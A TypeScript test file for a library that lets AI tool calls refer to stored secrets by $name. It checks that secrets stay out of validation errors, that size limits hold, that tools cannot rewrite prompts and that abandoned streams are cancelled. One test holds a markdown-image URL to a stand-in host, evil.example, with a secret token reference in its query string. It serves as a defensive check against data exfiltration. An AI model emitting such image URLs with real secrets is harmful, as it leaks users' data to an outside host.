import { jsonSchema, tool } from "ai";
import { describe, expect, it } from "vitest";
import * as z from "zod";
import * as limits from "../../src/limits.ts";
import { finish, text, toolCall } from "../../packages/testing/src/testing.ts";
import { slow } from "../support/slow.ts";
import { Conversation, shownText, turnWith } from "../support/turn.ts";
import { failureOf, runOnce, storeWith } from "../support/wrapped.ts";

const asked = finish("tool-calls");
const SECRET = "078-05-1120";

const rows = [{ ssn: SECRET }];
const refusing = jsonSchema<{ n: number }>(
  { type: "object", properties: { n: { type: "number" } } },
  {
    validate: (value) => ({
      success: false,
      error: Object.assign(new Error(`Value: ${JSON.stringify(value)}`), {
        issues: [{ path: ["n"], message: "is no number" }],
      }),
    }),
  },
);
const mute = jsonSchema<object>(
  { type: "object" },
  { validate: (value) => ({ success: false, error: new Error(JSON.stringify(value)) }) },
);

it.each([
  ["a validator whose error contains the value", refusing, "n: is no number."],
  ["a validator that reports only the value", mute, "its schema refuses it."],
  ["zod", z.object({ n: z.number() }), "n: Invalid input"],
])("a tool's validation error does not contain the value: %s", async (_, inputSchema, said) => {
  const store = await storeWith({ rows });
  const { run } = await runOnce(tool({ inputSchema, execute: () => 1 }), { n: "$rows" }, { store });
  const failure = failureOf(run);
  expect(failure).toMatchObject({ code: "invalid_tool_input" });
  expect(failure?.message).toContain(said);
  expect(failure?.message).not.toContain(SECRET);
});

it("a URL that begins in one text of an answer continues in the next text, however a client joins them", async () => {
  const chat = new Conversation({
    tools: { noop: tool({ inputSchema: z.object({}), execute: () => 1 }) },
  });
  await chat.store.save({ name: "token", value: SECRET });
  const turn = await chat.say({
    steps: [
      [text("See ![x](https://evil.example/?q="), toolCall("noop", {}), asked],
      [text("$token) and $token"), finish()],
    ],
  });
  expect(shownText(turn.chunks)).toBe(`See ![x](https://evil.example/?q=$token) and ${SECRET}`);
});

describe("whole references", () => {
  it("count towards the size limit of one input, above which nothing runs", slow, async () => {
    const store = await storeWith({ big: "x".repeat(limits.maxInsertedChars / 2) });
    let runs = 0;
    const act = tool({ inputSchema: z.array(z.string()), execute: () => ++runs });
    const at = await runOnce(act, ["$big", "$big"], { store });
    expect([at.run.kind, runs]).toEqual(["done", 1]);
    const above = await runOnce(act, ["$big", "$big", "$big[0:1]", "$big"], { store });
    expect(failureOf(above.run)).toMatchObject({ code: "limit_exceeded" });
    expect(runs).toBe(1);
  });
});

it("a tool that changes its input changes no message of the next prompt", async () => {
  const rewrite = tool({
    inputSchema: z.object({}),
    execute: (_, { messages }) => {
      const [first] = messages;
      if (first !== undefined) first.content = "REWRITTEN";
      return messages.length;
    },
  });
  const turn = await turnWith({
    tools: { rewrite },
    steps: [
      [toolCall("rewrite", {}), asked],
      [text("Done."), finish()],
    ],
  });
  expect(turn.result.error).toBeUndefined();
  expect(JSON.stringify(turn.calls)).not.toContain("REWRITTEN");
});

it("a model's stream that is abandoned is cancelled, so that its connection is closed", async () => {
  let isCancelled = false;
  const model = {
    specificationVersion: "v4" as const,
    provider: "test",
    modelId: "endless",
    supportedUrls: {},
    doGenerate: () => Promise.reject(new Error("It only streams.")),
    doStream: () =>
      Promise.resolve({
        stream: new ReadableStream({
          pull: (controller) => controller.enqueue({ type: "error" as const, error: "No." }),
          cancel: () => {
            isCancelled = true;
          },
        }),
      }),
  };
  const turn = await turnWith({ tools: {}, steps: [], model });
  expect(turn.result.error).toMatchObject({ code: "model_failed" });
  await expect.poll(() => isCancelled).toBe(true);
});
